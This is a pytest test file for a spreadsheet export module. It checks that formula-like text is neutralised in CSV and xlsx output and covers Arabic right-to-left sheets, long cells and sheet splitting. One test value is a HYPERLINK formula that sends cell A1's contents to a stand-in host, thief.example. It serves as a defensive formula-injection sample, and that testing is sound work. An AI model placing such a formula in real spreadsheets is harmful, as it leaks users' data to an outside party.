"""Files that are written: nothing in them runs, and every cell comes back as it was."""

import csv
import io
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from spreadsheets import formulas, writers
from spreadsheets.heads import CellKind, Head

FORMULA = '=HYPERLINK("http://thief.example/?q="&A1,"اضغط")'
RISKY = [f"{sign}1+1" for sign in "=+-@\t\r\n＝＋－＠"]
ODD = ["<r><t>x</t></r>", "a<b>&\"'", "_x0041_", "\x01\x1f", " x ", "ab\r\nc"]


@pytest.mark.parametrize("text", [*RISKY, FORMULA, *ODD, "", "'", "'Abd", "''x", "'=1", "''=1", "نورة"])
def test_formula_guard_gives_back_any_text(text):
    cell = formulas.inert(text)
    assert formulas.typed(cell) == text
    assert not cell.startswith(formulas.SIGNS)
    assert formulas.all_inert([text, "نورة"]) == [cell, "نورة"]


@pytest.mark.parametrize("text", ["", "'", "'Abd", "''x", "نورة", "1+1"])
def test_formula_guard_leaves_plain_text(text):
    assert formulas.inert(text) == text


def test_text_workbook_to_fill_in_keeps_numbers_text():
    rows = [["الرقم", "الاسم"], ["0500000001", "=1+1"], [None, "\x01"]]
    sheet = openpyxl.load_workbook(io.BytesIO(writers.text_workbook(rows, sheet_name="أشخاص", to_fill=True))).active
    assert [[cell.value or "" for cell in row] for row in sheet] == [*rows[:2], ["", "\N{REPLACEMENT CHARACTER}"]]
    assert {cell.data_type for row in sheet for cell in row if cell.value} == {"s"}
    assert (sheet.title, sheet.sheet_view.rightToLeft, sheet["A1"].font.b, sheet["A2"].font.b) == (
        *("أشخاص", True, True, False),
    )
    assert (sheet["A2"].number_format, sheet.column_dimensions["B"].number_format) == ("@", "@")


def written(tmp_path: Path, kind: str, values: list[str], **options: Any) -> Path:
    path = tmp_path / f"list.{kind}"
    file = writers.WRITERS[kind](path, [Head("الاسم"), Head("العدد", CellKind.NUMBER)], **options)
    file.write([values, list(range(len(values)))])
    file.close()
    return path


@pytest.mark.parametrize("value", [*RISKY, FORMULA])
def test_csv_escapes_text_that_begins_a_formula(tmp_path, value):
    with written(tmp_path, "csv", [value]).open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == [["الاسم", "العدد"], [f"'{value}", "0"]]


@pytest.mark.parametrize("value", [*RISKY, FORMULA, *ODD])
def test_workbook_keeps_text_that_looks_like_something_else(tmp_path, value):
    cell = openpyxl.load_workbook(written(tmp_path, "xlsx", [value])).active["A2"]
    found = re.sub(r"_x([0-9A-F]{4})_", lambda code: chr(int(code[1], 16)), str(cell.value))
    assert (cell.data_type, cell.hyperlink, found) == ("s", None, value)


def test_csv_with_a_semicolon_in_a_name_splits_no_cell(tmp_path):
    with written(tmp_path, "csv", ["أحمد;=1+1"]).open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file, delimiter=";"))[1][0].startswith("أحمد;=1+1")


def test_workbook_cell_too_long_is_cut(tmp_path):
    value = openpyxl.load_workbook(written(tmp_path, "xlsx", ["ب" * 40_000])).active["A2"].value
    assert len(value) == writers.LONGEST
    assert value.endswith("…")


def test_workbook_rows_beyond_a_sheet_go_on_the_next(tmp_path):
    book = openpyxl.load_workbook(written(tmp_path, "xlsx", [f"n{at}" for at in range(7)], rows_of_a_sheet=3))
    found = [[row[0].value for row in sheet.iter_rows()] for sheet in book]
    assert found == [["الاسم", "n0", "n1", "n2"], ["الاسم", "n3", "n4", "n5"], ["الاسم", "n6"]]
    assert all(sheet.sheet_view.rightToLeft and sheet.freeze_panes == "A2" and sheet["A1"].font.b for sheet in book)
